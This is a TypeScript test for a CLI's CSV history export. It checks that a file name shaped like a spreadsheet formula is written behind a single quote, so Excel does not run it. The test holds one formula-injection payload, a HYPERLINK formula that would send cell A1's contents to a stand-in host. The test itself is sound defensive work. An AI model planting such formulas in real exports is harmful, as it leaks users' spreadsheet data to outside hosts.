import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { HistoryStore } from '../../../src/core/history';
import { CLI } from '../../helpers/cli';
import { parseSemicolonCsv } from '../../helpers/semicolonCsv';
import { tempDir } from '../../helpers/tempDir';
import { submissionCreated } from '../history/fixtures/sampleEvents';

// An extract's file name is chosen outside this program; Excel must not run it as a formula.
describe('iplos history --csv (bundled dist/cli.js)', () => {
  it('writes a formula-like file name behind a single quote, and a plain history as it is', async () => {
    const dir = await tempDir();
    const hostile = '=HYPERLINK("https://example.invalid/?"&A1;"IPLOS_0403_2025.xml")';
    const store = new HistoryStore(join(dir, 'history', 'history.jsonl'));
    await store.append(submissionCreated({ extractName: hostile }));
    await store.append(submissionCreated({ submissionId: 'b', minute: 10 }));
    await writeFile(join(dir, 'iplos.config.json'), JSON.stringify({ historyLocation: 'history' }));
    const result = spawnSync(process.execPath, [CLI, 'history', '--csv', '--config', join(dir, 'iplos.config.json')], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    assert.equal(result.status, 0, result.stderr);
    assert.ok(result.stdout.includes(`;"'=HYPERLINK(""https://example.invalid/?""&A1;""IPLOS_0403_2025.xml"")";`));
    const [header, first, second] = parseSemicolonCsv(result.stdout);
    const name = header?.indexOf('extract name') ?? -1;
    assert.equal(first?.[name], `'${hostile}`);
    assert.equal(second?.[name], 'IPLOS_0403_2025.xml');
    assert.equal(first?.length, header?.length, 'the ; inside the name stays inside its cell');
  });
});
